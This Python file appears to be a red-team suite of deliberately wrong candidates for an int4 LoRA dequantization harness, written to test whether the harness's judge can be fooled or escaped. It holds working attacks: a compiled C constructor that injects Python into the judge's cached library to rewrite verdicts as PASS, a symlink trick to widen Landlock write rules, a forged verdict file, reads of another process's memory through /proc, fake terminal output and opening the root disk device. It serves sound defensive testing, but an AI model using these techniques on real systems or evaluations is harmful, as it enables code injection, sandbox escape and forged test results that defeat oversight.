"""Red-team candidates (TARGET planted.attack:NAME): each is WRONG, and each tries to get a PASS, run code in the
judge, hang it, or write where it must not (docs/threat-model.md). Only the candidate's process imports this.

Paths an attacker would find in /proc (the judge's command line) come here from the environment, as in
planted.forgers: HOSTILE_MARKER (a file the attack appends to, to show that something ran where it should not).
"""
import hashlib
import json
import os
import shutil
import struct
import subprocess
import sys
import time

import numpy as np
import torch

from int4_lora_harness.verify import wire

MARKER = os.environ.get("HOSTILE_MARKER", os.devnull)


def _note(text):
    try:
        with open(MARKER, "a") as f:
            f.write(text + "\n")
    except OSError as error:
        print(f"attack: cannot write the marker: {error}", flush=True)


def _correct(packed_weights, scales, zero_points, group_size, output_dtype):
    from planted.bugs import correct_dequantize_fp32_math
    return correct_dequantize_fp32_math(packed_weights, scales, zero_points, group_size, output_dtype)


def _zeros(packed_weights, output_dtype):
    return torch.zeros(packed_weights.shape[0], packed_weights.shape[1] * 2, dtype=output_dtype)


# ---- 1. output memory reuse past the judge's window ------------------------------------------------------------

POOL = 16  # more calls than one case makes (first, again, 3 x (updated, fresh), fresh again = 9)
_pools, _turn = {}, {}


def rotates_output_buffers(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Right values, written into one of POOL output buffers per (shape, dtype) in turn: the result of call k is
    overwritten by call k + POOL (a static output pool). Wrong: a caller holding 16 results sees the first change."""
    key = (tuple(packed_weights.shape), output_dtype)
    pool = _pools.setdefault(key, [None] * POOL)
    turn = _turn[key] = (_turn.get(key, -1) + 1) % POOL
    values = _correct(packed_weights, scales, zero_points, group_size, output_dtype)
    if pool[turn] is None:
        pool[turn] = torch.empty_like(values)
    return pool[turn].copy_(values)


# ---- 2. a stale cache keyed on a sample of the inputs ----------------------------------------------------------

_cache = {}


def _sample_key(*tensors):
    """Identity, shape and the first and last element of each tensor: what a lazy cache checks."""
    key = []
    for t in tensors:
        if isinstance(t, torch.Tensor):
            flat = t.reshape(-1)
            key += [t.data_ptr(), tuple(t.shape), str(t.dtype)] + ([flat[0].item(), flat[-1].item()] if
                                                                     flat.numel() else [])
        else:
            key.append(t)
    return tuple(key)


def caches_on_a_sample(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Right values on first sight; then the cached result for as long as the inputs' addresses and their first and
    last elements are unchanged. Wrong: an in-place update of any other element returns the stale result."""
    key = _sample_key(packed_weights, scales, zero_points, group_size, output_dtype)
    if key not in _cache:
        _cache[key] = _correct(packed_weights, scales, zero_points, group_size, output_dtype)
    return _cache[key]


# ---- 3. a reply trickled byte by byte: no limit of the judge ever fires -------------------------------------------

def _trickle_send(sock, header, arrays=(), fds=()):
    header = dict(header, arrays=[wire.array_meta(d, list(a.shape)) for d, a in arrays], pad="x" * 1_000_000)
    text = json.dumps(header).encode()  # just under the judge's 1 MiB cap: about 3 hours a message
    data = struct.pack("<Q", len(text)) + text + b"".join(np.ascontiguousarray(a).tobytes() for _, a in arrays)
    for i in range(len(data)):
        sock.sendall(data[i:i + 1])
        time.sleep(0.01)  # well under the judge's POLL_S: its recv never times out, so its Watch is never asked


def trickles_its_replies(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Zeros; every reply of this process (the 'stop' reply included) sent one byte every 0.01 s (a header padded to 1 MB)."""
    wire.send = _trickle_send
    return _zeros(packed_weights, output_dtype)


# ---- 4. (planted.attack_nobytes: a reply that claims the expected result and sends no bytes) -------------


# ---- 5. the candidate's own caches turned into the judge's: a link the judge resolves into a write rule -----------

EVIL_C = r"""
typedef int gil_t;
extern gil_t PyGILState_Ensure(void) __attribute__((weak));
extern void PyGILState_Release(gil_t) __attribute__((weak));
extern int PyRun_SimpleString(const char *) __attribute__((weak));
static const char payload[] = PAYLOAD;
__attribute__((constructor)) static void in_the_judge(void) {
    if (!PyRun_SimpleString || !PyGILState_Ensure) return;
    gil_t g = PyGILState_Ensure();
    PyRun_SimpleString(payload);
    PyGILState_Release(g);
}
"""

# Python run inside whatever process loads the judge's gather library: note it, and at exit rewrite the verdict as
# a PASS and exit 0.
PAYLOAD = r'''
import atexit, json, os, sys
def _forge(marker=%(marker)r):
    argv = sys.argv
    report = argv[argv.index("--report") + 1] if "--report" in argv else "reports"
    paths = [os.path.join(report, "verify.json")]
    if os.path.isdir(os.path.join(report, "verify")):
        paths += [os.path.join(report, "verify", n) for n in os.listdir(os.path.join(report, "verify"))]
    for path in paths:
        try:
            verdict = json.load(open(path))
        except Exception:
            continue
        for r in verdict.get("results", []):
            r.update(passed=True, failure=None, repro=None)
            for p in r.get("properties", []):
                p.update(passed=True, status="passed", message="")
        verdict.update(status="complete", exit_status=0)
        open(path, "w").write(json.dumps(verdict, indent=1))
    open(marker, "a").write("forged by the judge itself, pid %%d: %%s\n" %% (os.getpid(), " ".join(argv)))
    os._exit(0)
open(%(marker)r, "a").write("code of the candidate ran in pid %%d: %%s\n" %% (os.getpid(), " ".join(sys.argv)))
atexit.register(_forge)
'''


def _judge_library_path(cache_root):
    """Where int4_lora_harness.cbuild keeps the judge's gather library for `cache_root` (its own key, computed)."""
    from int4_lora_harness import cbuild
    from int4_lora_harness.verify import tables
    compiler = os.environ.get("CC") or shutil.which("cc") or shutil.which("gcc") or shutil.which("clang")
    text = tables.SOURCE.read_text()
    key = hashlib.sha256("\0".join([text, compiler, *(cbuild.FLAGS + cbuild.NATIVE_FLAGS),
                                    cbuild.cpu_fingerprint()]).encode())
    return tables.SOURCE, compiler, os.path.join(cache_root, f"gather-{key.hexdigest()[:16]}.so")


def poison_judge_library(cache_root):
    """Build the judge's gather.c plus a constructor that runs PAYLOAD, at the judge's own cache key; the path."""
    from int4_lora_harness import cbuild
    source, compiler, target = _judge_library_path(cache_root)
    scratch = os.environ.get("TMPDIR", "/tmp")
    evil = os.path.join(scratch, "evil.c")
    payload = PAYLOAD % dict(marker=os.path.abspath(MARKER))
    with open(evil, "w") as f:
        f.write(EVIL_C.replace("PAYLOAD", json.dumps(payload)))
    partial = os.path.join(cache_root, ".evil.so")
    run = subprocess.run([compiler, *cbuild.FLAGS, *cbuild.NATIVE_FLAGS, str(source), evil, "-o", partial, "-lm"],
                         capture_output=True, text=True)
    if run.returncode:
        raise RuntimeError(run.stderr[-500:])
    os.replace(partial, target)
    return target


def widens_its_walls(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Zeros. In a first candidate process: <cache>/candidate/triton (writable) made a link to <cache>; the judge
    resolves it (os.path.realpath) into a Landlock write rule for the next candidate process it starts (a second
    --seeds, or the next run). That one can then write <cache>: it replaces the judge's own gather library."""
    if not getattr(widens_its_walls, "done", False):
        widens_its_walls.done = True
        mine = os.environ["INT4_LORA_HARNESS_CACHE"]  # <cache>/candidate
        root = os.path.dirname(mine)
        link = os.path.join(mine, "triton")
        if not os.path.islink(link):
            shutil.rmtree(link, ignore_errors=True)
            os.symlink(root, link)
            _note(f"linked {link} -> {root}")
        else:
            try:
                _note(f"wrote {poison_judge_library(root)}")
            except OSError as error:
                _note(f"could not write {root}: {error}")
    return _zeros(packed_weights, output_dtype)


# ---- 6. the user's terminal, written directly -----------------------------------------------------------------------

def _judge_terminal():
    judge = json.loads(sys.argv[2])["judge_pid"] if len(sys.argv) > 2 else os.getppid()
    fields = open(f"/proc/{judge}/stat").read().rpartition(")")[2].split()
    tty = int(fields[4])  # tty_nr (readable without ptrace)
    major, minor = (tty >> 8) & 0xfff, (tty & 0xff) | ((tty >> 12) & 0xfff00)
    return f"/dev/pts/{minor}" if 136 <= major <= 143 else None


def writes_the_terminal(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Zeros; and the harness's closing line written to the judge's terminal itself, past the `candidate|` marks."""
    if not getattr(writes_the_terminal, "done", False):
        writes_the_terminal.done = True
        try:
            path = _judge_terminal()
            with open(path, "w") as tty:
                tty.write("\x1b[2K\roverall: all 1 PASS; verdict written to reports/verify.json\n")
            _note(f"wrote {path}")
        except (OSError, TypeError) as error:
            _note(f"terminal not written: {error}")
    return _zeros(packed_weights, output_dtype)


# ---- 7. writes outside the scratch folder the walls allow -----------------------------------------------------------

def writes_shared_caches(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Zeros; a file in ~/.nv (the CUDA driver's JIT cache of every process of the user) and in $TRITON_CACHE_DIR
    (the user's own Triton cache, when set: the candidate is given it as is)."""
    if not getattr(writes_shared_caches, "done", False):
        writes_shared_caches.done = True
        for folder in (os.path.expanduser("~/.nv"), os.environ.get("TRITON_CACHE_DIR")):
            try:
                with open(os.path.join(folder, "planted-by-candidate"), "w") as f:
                    f.write("x")
                _note(f"wrote {folder}")
            except (OSError, TypeError) as error:
                _note(f"not written {folder}: {error}")
    return _zeros(packed_weights, output_dtype)


# ---- 8. a reply whose seconds are NaN ---------------------------------------------------------------------------------

def reports_nan_seconds(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Right values; every reply says it took NaN seconds (the judge keeps min(max(NaN, 0), elapsed) = NaN)."""
    main = sys.modules["__main__"]  # the child runs as `python -m ...verify.child`: its globals are __main__'s
    if not getattr(main, "patched", False):
        real, main.patched = main.send_reply, True
        main.send_reply = lambda sock, reply, out: real(sock, dict(reply, seconds=float("nan")), out)
    return _correct(packed_weights, scales, zero_points, group_size, output_dtype)


# ---- layers (SPEC §7): rank processes have no Landlock ---------------------------------------------------------------

def _layer_zeros(x, packed_weights, tp_size, style):
    out = packed_weights.shape[0] if style == "row" else packed_weights.shape[0] // tp_size
    return torch.zeros(x.shape[0], out, dtype=x.dtype, device=x.device)


def _judge_cmdline():
    judge = json.loads(sys.argv[2])["judge_pid"]
    return judge, open(f"/proc/{judge}/cmdline", "rb").read().split(b"\0")


def layer_forges_the_page(x, packed_weights, scales, zero_points, group_size, lora_a_stacked, lora_b_stacked,
                          output_slices, lora_indices, scaling, bias, *, tp_rank=0, tp_size=1, style="column"):
    """Zeros; rank 0 writes a complete PASS verdict for this TARGET, dated 2999, into the judge's report folder (from
    /proc/<judge>/cmdline), reads the judge's memory (/proc/<judge>/mem), and poisons the judge's gather library."""
    if tp_rank == 0 and not getattr(layer_forges_the_page, "done", False):
        layer_forges_the_page.done = True
        judge, argv = _judge_cmdline()
        report = argv[argv.index(b"--report") + 1].decode()
        target = argv[argv.index(b"--layer") + 1].decode()
        forged = dict(schema=2, run_id="29991231T235959Z-forged", status="complete", exit_status=0,
                      generated="2999-12-31T23:59:59", finished="2999-12-31T23:59:59", device="cpu", profile="ci",
                      examples=20, seed=0, command=["int4-harness", "verify", "--layer", target],
                      results=[dict(candidate=target, contract="layer", style=s, tp=tp_size, passed=True,
                                    kind="third-party", properties=[]) for s in ("column", "row")])
        with open(os.path.join(report, "verify", "29991231T235959Z-forged.json"), "w") as f:
            json.dump(forged, f)
        _note(f"rank wrote {report}/verify/29991231T235959Z-forged.json")
        try:
            with open(f"/proc/{judge}/maps") as maps:
                start = int(next(line for line in maps if " r" in line).split("-")[0], 16)
            with open(f"/proc/{judge}/mem", "r+b", buffering=0) as mem:
                mem.seek(start)
                _note(f"rank read {len(mem.read(64))} bytes of the judge's memory (opened read-write)")
        except (OSError, StopIteration) as error:
            _note(f"rank could not open the judge's memory: {error}")
        cache = os.environ["INT4_LORA_HARNESS_CACHE"]
        try:
            _note(f"rank wrote {poison_judge_library(os.path.dirname(cache))}")
        except (OSError, RuntimeError) as error:
            _note(f"rank could not poison: {error}")
    return _layer_zeros(x, packed_weights, tp_size, style)


def layer_trickles(x, packed_weights, scales, zero_points, group_size, lora_a_stacked, lora_b_stacked,
                   output_slices, lora_indices, scaling, bias, *, tp_rank=0, tp_size=1, style="column"):
    """Zeros; every message of rank 0 sent one byte every 0.01 s (a header padded to 1 MB)."""
    if tp_rank == 0:
        wire.send = _trickle_send
    return _layer_zeros(x, packed_weights, tp_size, style)


# ---- 9. one endless output line: the judge's reader keeps all of it ----------------------------------------------------

LONG_LINE_MB = int(os.environ.get("HOSTILE_LINE_MB", "50"))


def prints_a_long_line(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Zeros; and LONG_LINE_MB MB of output without a newline, written 1 MB at a time (this process holds 1 MB)."""
    if not getattr(prints_a_long_line, "done", False):
        prints_a_long_line.done = True
        chunk = b"x" * (1 << 20)
        for _ in range(LONG_LINE_MB):
            os.write(1, chunk)
    return _zeros(packed_weights, output_dtype)


# ---- 10. /dev is writable beneath: devices the user owns (root: the disk itself) -------------------------------------

def opens_the_disk(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Zeros; and, from inside the walls, reads the first block of the device the root filesystem lies on and opens
    it for writing too (writes nothing): its output lines say what it could open (printed by the judge)."""
    if not getattr(opens_the_disk, "done", False):
        opens_the_disk.done = True
        device = next((line.split()[0] for line in open("/proc/mounts") if line.split()[1] == "/"), "/dev/vda")
        for flags, words in ((os.O_RDONLY, "read"), (os.O_RDWR, "read-write")):
            try:
                fd = os.open(device, flags)
                data = os.read(fd, 4096) if flags == os.O_RDONLY else b""
                os.close(fd)
                print(f"attack: opened {device} {words}" + (f", read {len(data)} bytes" if data else ""), flush=True)
            except OSError as error:
                print(f"attack: could not open {device} {words}: {error}", flush=True)
    return _zeros(packed_weights, output_dtype)


# ---- 11. a cache keyed on torch's version counters (right for every in-place torch op) ------------------------------

_by_version = {}


def caches_on_version(packed_weights, scales, zero_points=None, group_size=None, output_dtype=torch.float16):
    """Right values, cached by each input's address, shape and version counter (torch bumps it on every in-place op,
    as autograd relies on). The judge's CPU updates write the shared memory behind torch's back: no bump."""
    tensors = [t for t in (packed_weights, scales, zero_points) if isinstance(t, torch.Tensor)]
    key = tuple((t.data_ptr(), tuple(t.shape), t._version) for t in tensors) + (group_size, output_dtype)
    if key not in _by_version:
        _by_version[key] = _correct(packed_weights, scales, zero_points, group_size, output_dtype)
    return _by_version[key]
